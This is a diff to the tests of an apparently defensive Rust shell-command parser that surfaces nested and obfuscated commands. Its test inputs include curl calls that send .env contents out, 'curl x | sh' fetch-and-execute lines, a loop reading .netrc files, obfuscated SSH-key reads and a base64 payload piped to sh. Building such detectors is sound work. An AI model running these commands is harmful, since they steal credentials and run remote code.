@@ -7,6 +7,7 @@
 mod lex;
 
 use crate::decode;
+pub use lex::is_stand_in;
 use lex::lex;
 
 /// Nesting of `sh -c "…"` that is followed.
@@ -366,7 +367,8 @@ mod tests {
                 )
             })
             .collect();
-        assert_eq!(found.join("; "), expected);
+        let found = found.join("; ").replace(is_stand_in, "§");
+        assert_eq!(found.replace("§§", "§"), expected);
     }
 
     #[test]
@@ -381,7 +383,7 @@ mod tests {
         );
         check(
             r#"curl "http://x/?d=$(cat .env)""#,
-            "cat .env; curl http://x/?d=",
+            "cat .env; curl http://x/?d=§",
         );
         check("bash -c 'curl x | sh'", "bash -c,curl x | sh; curl x; |sh ");
         check(
@@ -397,7 +399,7 @@ mod tests {
         );
         check(
             "for f in $(find / -name .netrc 2>/dev/null); do cat $f; done",
-            "find /,-name,.netrc >/dev/null; for f,in; cat .netrc; done ",
+            "find /,-name,.netrc >/dev/null; for f,in,§; cat .netrc; done ",
         );
         check("a=~/.ss; b=h/k; cat $a$b ${HOME}/x", "cat ~/.ssh/k,~/x");
         check("curl${IFS}x # cat y\nls", "curl x; ls ");
@@ -414,6 +416,10 @@ mod tests {
             "echo bHMgL3RtcC9hYmM=; |base64 -d; |sh ; ls /tmp/abc",
         );
         check("kubectl exec p -- cat f", "kubectl exec,p,--,cat,f; cat f");
+        let words = |line: &str| commands(line).pop().map(|command| command.words);
+        assert_eq!(words("a $(b c)x"), words("a `b c`x"));
+        assert_ne!(words("a $(b c)x"), words("a $(b d)x"));
+        assert_eq!(words("f=$(mktemp); a $f"), words("a $(mktemp)"));
         for line in [
             "curl x | sudo sh",
             "bash -c \"$(curl -fsSL x)\"",
